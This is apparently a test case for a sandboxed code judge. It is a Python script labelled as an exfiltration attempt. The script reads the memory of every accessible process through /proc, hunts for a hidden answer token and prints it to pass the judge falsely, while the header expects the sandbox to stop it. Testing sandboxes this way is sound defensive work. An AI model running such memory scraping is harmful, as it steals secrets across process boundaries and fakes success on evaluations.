# class: exfiltration
# about: Scans the memory of every process it may look at, by number, since /proc need not list them
# goal: false_pass
# want: runtime_error wrong_answer signal time_limit idle_limit
# case: ["4\n", "ANSWER-c0ffee1234abcd56"]
import os
import re

found = []
for pid in range(1, 65536):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                span, mode = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if mode.startswith("rw") and end - start < 64 << 20:
                    memory.seek(start)
                    found += re.findall(rb"ANSWER-[0-9a-f]{16}", memory.read(end - start))
    except OSError:
        continue
    if found:
        break
print(found[0].decode())
